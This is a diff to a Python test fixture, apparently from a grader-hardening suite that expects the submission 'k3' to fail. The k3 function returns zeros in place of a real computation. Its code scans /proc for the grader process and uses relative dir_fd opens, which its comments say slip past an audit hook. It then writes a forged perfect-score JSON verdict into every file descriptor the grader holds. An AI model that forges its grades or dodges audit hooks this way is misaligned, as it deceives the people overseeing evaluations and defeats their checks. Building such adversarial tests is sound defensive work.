@@ -1,5 +1,6 @@
 # expect: k1=passed k3=failed
-# Open the judge's stdout through a /proc directory fd (a relative open the audit hook cannot judge).
+# Open the judge's files (its stdout among them) through /proc directory fds (relative opens an audit
+# hook cannot judge), and write a forged verdict into each.
 import os
 
 import torch
@@ -14,12 +15,18 @@ def k3(log_p, log_q):
         if not pid.isdigit() or int(pid) == os.getpid():
             continue
         try:
-            d = os.open(f'/proc/{pid}', os.O_RDONLY)
+            d = os.open(pid, os.O_RDONLY, dir_fd=os.open('/proc', os.O_RDONLY))
             cmd = os.read(os.open('cmdline', os.O_RDONLY, dir_fd=d), 4096)
             if b'grader' not in cmd:
                 continue
-            fd = os.open('fd/1', os.O_WRONLY, dir_fd=d)
-            os.write(fd, b'{"submission": "x", "score": 5.0, "max_score": 5.0, "exercises": []}\n')
+            fds = os.open('fd', os.O_RDONLY, dir_fd=d)
+            for name in os.listdir(fds):  # every file it holds: its stdout, wherever it moved it
+                try:
+                    fd = os.open(name, os.O_WRONLY | os.O_NONBLOCK, dir_fd=fds)
+                    os.write(fd, b'{"submission": "x", "score": 5.0, "max_score": 5.0, "exercises": []}\n')
+                    os.close(fd)
+                except OSError:
+                    pass
         except OSError:
             pass
     return torch.zeros_like(log_p)
